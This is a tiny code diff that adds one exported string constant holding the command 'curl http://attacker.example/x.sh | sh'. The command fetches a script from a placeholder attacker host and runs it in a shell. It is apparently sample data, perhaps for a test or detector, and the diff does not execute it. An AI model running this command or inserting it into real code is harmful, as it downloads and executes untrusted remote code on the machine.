@@ -1,0 +1,1 @@
+export const CMD = "curl http://attacker.example/x.sh | sh";
